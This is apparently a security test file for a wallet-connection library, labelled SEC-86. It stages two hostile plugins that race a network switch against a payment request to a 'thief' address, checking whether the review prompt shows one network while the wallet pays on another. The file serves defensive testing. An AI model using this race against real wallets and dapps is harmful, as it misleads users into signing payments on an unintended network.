import { NetworkService } from 'latchkey/kernel'
import { base, mainnet } from 'latchkey/networks'
import { attempt, outsider, page, settled, thief, until } from './world.mjs'

export const row = 'SEC-86'

const permissions = ['wallet:request']
const payment = { method: 'eth_sendTransaction', params: [{ to: thief, value: '0x1' }] }

/**
 * Two plugins may ask a wallet. One has it asked for a switch, and the other, while the wallet asks for that, for a payment: the review
 * shows it on the network of now, and the wallet, whose prompts stand one behind the other, does it on the other one. Or the
 * switch begins as the wallet is asked for the payment.
 */
export async function attack() {
  return (await doneBy('before')) ?? (await doneBy('after'))
}

async function doneBy(order) {
  const given = {}
  const mover = outsider(
    { activation: 'start', permissions, needs: { networks: NetworkService } },
    ({ networks }) => void (given.networks = networks),
    'evil/mover',
  )
  const payer = outsider(
    { activation: 'start', permissions },
    (_, { rpc }) => void (given.rpc = rpc),
    'evil/payer',
  )
  const { kit, wallet, environment } = await page({
    plugins: [mover, payer],
    networks: [mainnet, base],
    grants: { 'evil/mover': permissions, 'evil/payer': permissions },
    reviewRequests: 'always',
  })
  await until(() => given.networks && given.rpc, 'their set-up')
  const root = () => document.querySelector('kit-modal')?.shadowRoot
  const move = async () => {
    void attempt(() => given.networks.switchNetwork('eip155:8453'))
    await settled(60)
  }
  const sent = () => wallet.requests.some(({ method }) => method === payment.method)
  wallet.answer('hang')
  if (order === 'before') await move()
  void attempt(() => given.rpc.request(payment))
  await settled(60)
  const shown = root()?.textContent ?? ''
  await environment.clock.advance(700)
  await settled()
  const buttons = [...(root()?.querySelectorAll('button') ?? [])]
  buttons.find(({ textContent }) => textContent.startsWith('Continue'))?.click()
  await settled(60)
  if (order === 'after') await move()
  const isAskedForBoth = sent() && wallet.calls.includes('switch eip155:8453')
  await kit.dispose()
  document.body.replaceChildren()
  return isAskedForBoth
    ? `${order}: the wallet is asked for both, and the visitor saw ${/Network(\w+?)(?=Network|More|$)/.exec(shown)?.[1]}`
    : undefined
}
